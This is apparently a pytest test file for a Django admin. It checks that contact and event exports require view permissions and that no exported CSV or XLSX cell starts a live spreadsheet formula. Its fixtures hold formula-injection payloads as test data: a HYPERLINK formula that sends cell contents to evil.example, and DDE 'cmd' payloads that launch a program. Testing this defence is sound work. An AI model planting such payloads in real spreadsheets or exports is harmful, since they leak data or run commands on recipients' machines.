"""Admin exports: only for those who may view what is exported, and never a live formula in the
file (security review)."""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.admin import ExportMixin

from contacts.models import Contact, Organization
from contacts.resources import (
    ContactReportResource,
    ContactResource,
    clean_formula,
    neutralise_formula,
)
from events.models import Attendance, Event
from events.resources import EventResource
from notes.resources import EventReportResource
from tests.helpers import make_contact, make_event, make_organization

pytestmark = pytest.mark.django_db

CSV_FORMAT, XLSX_FORMAT = "0", "1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SECRET_EMAIL = "secret.person@example.org"


def url(model, view):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}")


def exporting_models():
    return [
        model for model, admin_ in admin.site._registry.items() if isinstance(admin_, ExportMixin)
    ]


def user_with(django_user_model, *codenames):
    user = django_user_model.objects.create_user("clerk", is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


def export_page(client, model):
    return client.get(url(model, "export")).content.decode()


def post_export(client, model, resource, index, file_format=CSV_FORMAT):
    data = {"format": file_format, "resource": str(index)}
    data |= {
        f"{resource.__name__.lower()}_{field}": "on" for field in resource().get_export_order()
    }
    return client.post(url(model, "export"), data)


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def people():
    ministry = make_organization("Ministry of Foreign Affairs")
    contact = make_contact(
        "Awa Diop",
        organization=ministry,
        email=SECRET_EMAIL,
        phone="+221 33 000 0000",
        remarks="Private remark",
    )
    event = make_event(title="Dakar workshop")
    Attendance.objects.create(event=event, contact=contact, role="speaker")
    return contact, event


# Permissions


def test_every_export_is_covered():
    assert set(exporting_models()) == {Contact, Organization, Event}


@pytest.mark.parametrize("model", exporting_models(), ids=lambda model: model._meta.model_name)
def test_a_staff_account_without_permissions_cannot_export(
    client, django_user_model, people, model
):
    client.force_login(user_with(django_user_model))
    assert client.get(url(model, "export")).status_code == 403
    admin_ = admin.site._registry[model]
    for index, resource in enumerate(admin_.get_resource_classes(None)):
        for file_format in (CSV_FORMAT, XLSX_FORMAT):
            response = post_export(client, model, resource, index, file_format)
            assert response.status_code == 403
            assert SECRET_EMAIL.encode() not in response.content
            assert b"Awa Diop" not in response.content


def test_a_staff_account_without_permissions_gets_no_personal_data_file(
    client, django_user_model, people
):
    contact, _event = people
    client.force_login(user_with(django_user_model))
    response = client.get(reverse("admin:contacts_contact_personal_data", args=[contact.pk]))
    assert response.status_code == 403
    assert SECRET_EMAIL.encode() not in response.content


@pytest.mark.parametrize("model", exporting_models(), ids=lambda model: model._meta.model_name)
def test_a_staff_account_without_permissions_cannot_import(client, django_user_model, model):
    client.force_login(user_with(django_user_model))
    assert client.get(url(model, "import")).status_code == 403
    upload = SimpleUploadedFile("rows.csv", b"name\nx\n")
    response = client.post(
        url(model, "import"), {"import_file": upload, "format": CSV_FORMAT, "resource": "0"}
    )
    assert response.status_code == 403


def test_the_view_permission_is_enough_to_export_contacts(client, django_user_model, people):
    client.force_login(user_with(django_user_model, "view_contact"))
    response = post_export(client, Contact, ContactReportResource, 0)
    assert response.status_code == 200
    assert SECRET_EMAIL in response.content.decode()


def test_the_event_report_needs_the_permission_to_view_contacts_and_notes(
    client, django_user_model, people
):
    # The report names the attendees: viewing events is not enough.
    client.force_login(user_with(django_user_model, "view_event"))
    page = export_page(client, Event)
    assert str(EventReportResource.get_display_name()) not in page
    response = post_export(client, Event, EventResource, 0)
    assert response.status_code == 200
    assert "Dakar workshop" in response.content.decode()
    assert "Awa Diop" not in response.content.decode()


def test_the_event_report_is_offered_with_those_permissions(client, django_user_model, people):
    client.force_login(user_with(django_user_model, "view_event", "view_contact", "view_note"))
    assert str(EventReportResource.get_display_name()) in export_page(client, Event)
    response = post_export(client, Event, EventReportResource, 0)
    assert "Awa Diop (speaker)" in response.content.decode()


# Formulae

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def formulae():
    contact = make_contact(
        FORMULA_NAME,
        position="+cmd|' /C calc'!A0",
        phone="-2+3",
        email="at@example.org",
        remarks="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    event = make_event(title="=1+1", city="\tTabbed", description="\r=2+2")
    Attendance.objects.create(event=event, contact=contact, role="speaker")
    return contact, event


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


EXPORTS = [
    (Contact, ContactReportResource, 0),
    (Contact, ContactResource, 1),
    (Event, EventReportResource, 0),
    (Event, EventResource, 1),
]
IDS = ["contact-report", "contact-importable", "event-report", "event-importable"]


@pytest.mark.parametrize(("model", "resource", "index"), EXPORTS, ids=IDS)
def test_no_csv_cell_starts_a_formula(admin_client, formulae, model, resource, index):
    response = post_export(admin_client, model, resource, index, CSV_FORMAT)
    assert response.status_code == 200
    _header, *rows = csv_rows(response)
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    # The value is all there, after the apostrophe that makes it text.
    expected = "'=1+1" if model is Event else f"'{FORMULA_NAME}"
    assert expected in cells


@pytest.mark.parametrize(("model", "resource", "index"), EXPORTS, ids=IDS)
def test_no_xlsx_cell_is_a_formula(admin_client, formulae, model, resource, index):
    response = post_export(admin_client, model, resource, index, XLSX_FORMAT)
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    # The exact value, as text that a spreadsheet shows as typed after an apostrophe.
    expected = "=1+1" if model is Event else FORMULA_NAME
    starting = [value for value in texts if value.startswith(expected)]
    assert starting, texts
    assert all(texts[value].data_type == "s" and texts[value].quotePrefix for value in starting)


def test_the_report_neutralises_the_attendees_too(admin_client, formulae):
    response = post_export(admin_client, Event, EventReportResource, 0, CSV_FORMAT)
    header, row = csv_rows(response)
    assert dict(zip(header, row, strict=True))["Attendees (role)"] == f"'{FORMULA_NAME} (speaker)"


def test_an_exported_contact_file_imports_back_unchanged(admin_client, formulae):
    contact, _event = formulae
    exported = post_export(admin_client, Contact, ContactResource, 1, CSV_FORMAT).content
    Contact.objects.all().update(remarks="changed")
    upload = SimpleUploadedFile("contacts.csv", exported)
    page = admin_client.post(
        url(Contact, "import"), {"import_file": upload, "format": CSV_FORMAT, "resource": "0"}
    ).content.decode()
    hidden = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', page))
    fields = ["import_file_name", "original_file_name", "format", "resource"]
    response = admin_client.post(url(Contact, "process_import"), {f: hidden[f] for f in fields})
    assert response.status_code == 302
    imported = Contact.objects.get()
    assert imported.pk == contact.pk
    assert (imported.name, imported.position, imported.phone, imported.remarks) == (
        contact.name,
        contact.position,
        contact.phone,
        contact.remarks,
    )


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=1", "''+1", "'plain", "plain", "", "a=b", 3],
)
def test_the_escape_is_undone_exactly(value):
    escaped = neutralise_formula(value)
    assert not (isinstance(escaped, str) and escaped.startswith(FORMULA_STARTS))
    assert clean_formula(escaped) == value
